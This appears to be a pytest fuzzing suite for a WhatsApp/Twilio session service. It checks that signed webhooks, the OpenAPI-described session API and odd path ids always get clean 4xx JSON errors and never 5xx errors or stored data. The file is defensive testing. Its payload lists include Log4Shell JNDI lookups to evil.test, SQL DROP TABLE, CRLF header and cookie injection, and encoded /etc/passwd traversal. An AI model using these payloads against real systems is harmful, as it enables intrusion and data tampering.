"""Hostile and broken input: the webhook fuzzed with correctly signed random forms (hypothesis),
the session API fuzzed from the app's own ``/openapi.json`` (schemathesis), and odd ids in
paths over a real socket. Never a 5xx, every refusal a JSON error naming the problem, and
nothing stored for a request that was refused."""

from __future__ import annotations

import http.client
import json
import os
import urllib.parse
import uuid
from typing import Any

import pytest
import schemathesis
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from schemathesis import GenerationMode
from schemathesis import checks as st_checks
from twilio.request_validator import RequestValidator

from tests.e2e.conftest import Service
from tests.reliability.harness import (
    FUZZ_ADMIN_TOKEN,
    FUZZ_BASE_URL,
    FUZZ_TWILIO_TOKEN,
    Web,
    assert_json_error,
)
from tests.signing import sign_pairs
from wa_sessions.statemachine.identity import normalize_address
from wa_sessions.statemachine.redis.keys import Keys
from wa_sessions.webhook.twilio import FormParams

TOKEN = FUZZ_TWILIO_TOKEN
ADMIN = FUZZ_ADMIN_TOKEN
BASE = FUZZ_BASE_URL
WEBHOOK = "/twilio-webhook-opt"
BUSINESS = "+14155238886"
CUSTOMER = "+14155597000"
#: Fuzzed webhooks per run (the session API gets a twentieth of it per operation and mode);
#: raise for a longer run (``WA_FUZZ_EXAMPLES=20000``).
EXAMPLES = int(os.environ.get("WA_FUZZ_EXAMPLES", "1000"))
#: Errors use the one JSON shape; these are the only statuses a refusal may have.
WEBHOOK_STATUSES = {200, 400, 403, 413, 429}
#: Headers the webhook answers with; anything else came from the input.
ANSWER_HEADERS = {"content-type", "content-length"}


# ---- the webhook, fuzzed with valid signatures ----------------------------------------------

_TWILIO_NAMES = [
    "MessageSid",
    "SmsMessageSid",
    "AccountSid",
    "From",
    "To",
    "Body",
    "NumMedia",
    "NumSegments",
    "ProfileName",
    "WaId",
    "MessageType",
    "ButtonText",
    "ButtonPayload",
    "Latitude",
    "Longitude",
    "Address",
    "Label",
    "OriginalRepliedMessageSid",
    "ReferralBody",
    "ReferralNumMedia",
    "ChannelMetadata",
    *(f"MediaUrl{i}" for i in range(12)),
    *(f"MediaContentType{i}" for i in range(12)),
]
_INJECTIONS = [
    "a\r\nX-Injected: 1",
    "\r\n\r\n<html>",
    "%0d%0aSet-Cookie: stolen=1",
    "x\nLocation: https://evil.test/",
    "\u2028\u2029\x00\x1b[31m",
    "${jndi:ldap://evil.test/a}",
    "'; DROP TABLE sessions; --",
    "<Response><Redirect>https://evil.test</Redirect></Response>",
    "../../../../etc/passwd",
    "whatsapp:+14155550100\r\nX-Twilio-Signature: forged",
]
_values = st.one_of(
    st.text(max_size=40),
    st.sampled_from(_INJECTIONS),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.sampled_from(["1e3", "١", " 1", "+3", "0x10", "NaN", "inf", "-0", "10", "11", "99"]),
    st.integers(min_value=1, max_value=12_000).map(lambda n: "x" * n),
    st.sampled_from(["whatsapp:+14155550100", "whatsapp:US.13491208655302741918", "+1"]),
    st.builds(lambda: "SM" + uuid.uuid4().hex),
)
_names = st.one_of(st.sampled_from(_TWILIO_NAMES), st.text(min_size=1, max_size=20))


@st.composite
def webhook_requests(draw: st.DrawFn) -> tuple[list[tuple[str, str]], str]:
    """(form fields in sending order, possibly repeated; how to encode them)."""
    fields: dict[str, str] = {
        "MessageSid": "SM" + uuid.uuid4().hex,
        "AccountSid": "AC" + "0" * 32,
        "From": f"whatsapp:{CUSTOMER}",
        "To": f"whatsapp:{BUSINESS}",
        "Body": draw(_values),
        "NumMedia": "0",
    }
    for name in draw(st.lists(st.sampled_from(sorted(fields)), max_size=2)):
        fields.pop(name, None)
    fields.update(draw(st.dictionaries(_names, _values, max_size=6)))
    pairs = list(fields.items())
    pairs += draw(st.lists(st.tuples(_names, _values), max_size=2))  # repeated names
    encoding = draw(st.sampled_from(["form", "form", "form", "bad_utf8", "bad_percent", "forged"]))
    return pairs, encoding


def _encode(pairs: list[tuple[str, str]], encoding: str) -> tuple[bytes, str]:
    body = urllib.parse.urlencode(pairs).encode()
    signature = sign_pairs(TOKEN, BASE + WEBHOOK, pairs)
    if encoding == "bad_utf8":
        body += b"&Body=\xff\xfe"
    elif encoding == "bad_percent":
        body += b"&Body=%ff%C3%28"
    elif encoding == "forged":
        signature = RequestValidator("not-the-token").compute_signature(BASE + WEBHOOK, {})
    return body, signature


def test_fuzzed_signed_webhooks_never_fail_and_store_only_what_they_accept(web: Web) -> None:
    """Random field sets signed with the real token (unknown and repeated fields, huge and
    malformed NumMedia, control characters and header injection in values, values up to 12 kB,
    invalid UTF-8, forged signatures): 200 with TwiML and exactly that message in its inbox,
    or a 4xx JSON error and nothing in Redis; no response header is made from the input."""
    keys = Keys()
    outcomes: dict[int, int] = {}

    @given(webhook_requests())
    @settings(
        max_examples=EXAMPLES,
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    def check(request: tuple[list[tuple[str, str]], str]) -> None:
        pairs, encoding = request
        web.redis.flushdb()
        body, signature = _encode(pairs, encoding)
        response = web.client.post(
            WEBHOOK,
            content=body,
            headers={
                "Content-Type": "application/x-www-form-urlencoded",
                "X-Twilio-Signature": signature,
            },
        )
        outcomes[response.status_code] = outcomes.get(response.status_code, 0) + 1
        assert response.status_code in WEBHOOK_STATUSES, (response.status_code, response.text)
        assert set(response.headers) <= ANSWER_HEADERS, dict(response.headers)
        if response.status_code != 200:
            assert_json_error(
                response.status_code, response.headers["content-type"], response.content
            )
            assert web.redis.keys("*") == [], "a refused request stored something"
            return
        assert encoding == "form"
        assert response.text.endswith("<Response/>")
        params = FormParams(pairs)
        conv = "|".join(normalize_address(params.get(name) or "") for name in ("From", "To"))
        [entry] = web.redis.lrange(keys.conv_inbox(conv), 0, -1)
        message = json.loads(entry.split("\t", 4)[4])
        assert message["id"] == params.get("MessageSid")
        assert message["content"] == (params.get("Body") or "")

    check()
    print(f"\nwebhook fuzz outcomes: {dict(sorted(outcomes.items()))}")
    # The generator reached both sides: accepted messages and refusals.
    assert outcomes.get(200, 0) > 0
    assert sum(n for status, n in outcomes.items() if status != 200) > 0


# ---- the session API, fuzzed from its own OpenAPI document --------------------------------

#: Checks that hold for this API. ``positive_data_acceptance`` is left out only for the routes
#: with a phone number in the path (the lookup, the language override), the analytics and
#: ``POST /conversations``: the schema says "string", and which strings are phone numbers (or
#: which two dates make a range in order and of at most 92 days, or that exactly one of
#: content_sid and text is given) it cannot express.
_ALL_CHECKS = [
    st_checks.not_a_server_error,
    st_checks.status_code_conformance,
    st_checks.content_type_conformance,
    st_checks.response_schema_conformance,
    st_checks.response_headers_conformance,
    st_checks.negative_data_rejection,
    st_checks.positive_data_acceptance,
]


def _checks_for(path: str) -> list[Any]:
    if path in (
        "/session/{phone_number}",
        "/phones/{phone_number}/language",
        "/analytics",
        "/conversations",
    ):
        return [c for c in _ALL_CHECKS if c is not st_checks.positive_data_acceptance]
    return _ALL_CHECKS


def test_session_api_fuzzed_from_its_openapi_document_conforms(web: Web) -> None:
    """Every session API and operations route, with generated valid and invalid input, the
    admin token, and also pinned to real session ids and a real phone: never a 5xx, and every
    response's status, content type, headers and body match what ``/openapi.json`` says."""
    active_sid = web.service.add_message(CUSTOMER, "hello").session_id
    ended = web.service.add_message("+14155597001", "bye").session_id
    web.service.complete_session(ended)
    schema = schemathesis.openapi.from_asgi("/openapi.json", web.app)
    schema.config.update(headers={"Authorization": f"Bearer {ADMIN}"})
    # The Twilio endpoints need signatures; the fuzz above covers them.
    schema = schema.exclude(tag="twilio")
    pinned: dict[str, list[dict[str, str]]] = {
        "session_id": [{"session_id": active_sid}, {"session_id": ended}],
        "phone_number": [{"phone_number": CUSTOMER}, {"phone_number": "whatsapp:" + CUSTOMER}],
    }
    examples = max(10, EXAMPLES // 20)
    runs: dict[str, dict[int, int]] = {}
    for result in schema.get_all_operations():
        operation = result.ok()
        label = f"{operation.method.upper()} {operation.path}"
        counts = runs.setdefault(label, {})
        strategies = [operation.as_strategy(generation_mode=GenerationMode.POSITIVE)]
        if any(True for _ in operation.iter_parameters()):
            strategies.append(operation.as_strategy(generation_mode=GenerationMode.NEGATIVE))
        for name, values in pinned.items():
            if "{" + name + "}" in operation.path:
                strategies += [operation.as_strategy(path_parameters=v) for v in values]
        for strategy in strategies:
            _run_cases(strategy, examples, _checks_for(operation.path), counts)
    print(f"\nschemathesis statuses per operation: {runs}")
    assert {"GET /sessions", "GET /sessions/active", "GET /session/{phone_number}"} <= set(runs)
    assert all(400 in c for label, c in runs.items() if "{" in label or "sessions" in label)
    assert any(200 in c for label, c in runs.items() if "{session_id}" in label)


def _run_cases(strategy: Any, examples: int, checks: list[Any], counts: dict[int, int]) -> None:
    @given(strategy)
    @settings(
        max_examples=examples,
        deadline=None,
        database=None,
        suppress_health_check=list(HealthCheck),
    )
    def run(case: Any) -> None:
        response = case.call()
        counts[response.status_code] = counts.get(response.status_code, 0) + 1
        case.validate_response(response, checks=checks)
        if response.status_code >= 400:
            [content_type] = response.headers["content-type"]
            assert_json_error(response.status_code, content_type, response.content)

    run()


def test_offsets_beyond_redis_range_are_a_400_not_a_500(web: Web) -> None:
    """Found by the fuzz above: an offset past Redis' 64-bit range made the page read fail."""
    headers = {"Authorization": f"Bearer {ADMIN}"}
    for path in ("/sessions", "/sessions/active"):
        for offset in (10**9 + 1, 2**63, 10**24):
            response = web.client.get(path, params={"offset": offset}, headers=headers)
            assert response.status_code == 400, (path, offset, response.text)
            body = assert_json_error(400, response.headers["content-type"], response.content)
            assert body["error"]["message"].startswith("offset:")
        last = web.client.get(path, params={"offset": 10**9}, headers=headers)
        assert last.status_code == 200


# ---- odd ids in paths, over a real socket ---------------------------------------------------

_ODD_IDS = [
    "..",
    "../sessions",
    "..%2F..%2Fetc%2Fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%2F",
    "%00",
    "%ff%fe",
    "not-a-uuid",
    "{00000000-0000-4000-8000-000000000000}",
    "00000000-0000-4000-8000-00000000000",
    "x" * 8000,
    "1" * 200,
    "%F0%9F%98%80",
    "%0d%0aX-Injected:%201",
    "+1415%2F555",
    "whatsapp:%2B14155550100%2F..",
]


@pytest.mark.e2e
def test_path_traversal_and_odd_ids_are_4xx_json_over_a_real_socket(service: Service) -> None:
    """Raw request lines (no client-side normalisation) with traversal, encoded slashes,
    NULs, invalid UTF-8, very long and non-UUID ids, against every route with a path
    parameter: each is a 4xx with the JSON error body, never a 5xx."""
    routes = [
        ("GET", "/session/{}"),
        ("POST", "/session/{}/complete"),
        ("POST", "/session/{}/expire"),
        ("GET", "/session/{}/summary"),
    ]
    seen: dict[int, int] = {}
    conn = http.client.HTTPConnection("127.0.0.1", service.port, timeout=10)
    try:
        for method, template in routes:
            for odd in _ODD_IDS:
                conn.putrequest(method, template.format(odd), skip_accept_encoding=True)
                conn.putheader("Authorization", "Bearer e2e-admin-token")
                conn.putheader("Content-Length", "0")
                conn.endheaders()
                resp = conn.getresponse()
                body = resp.read()
                seen[resp.status] = seen.get(resp.status, 0) + 1
                assert 400 <= resp.status < 500, (method, template, odd[:40], resp.status, body)
                assert_json_error(resp.status, resp.getheader("content-type"), body)
                if resp.will_close:
                    conn.close()
    finally:
        conn.close()
    print(f"\nodd ids: {seen}")
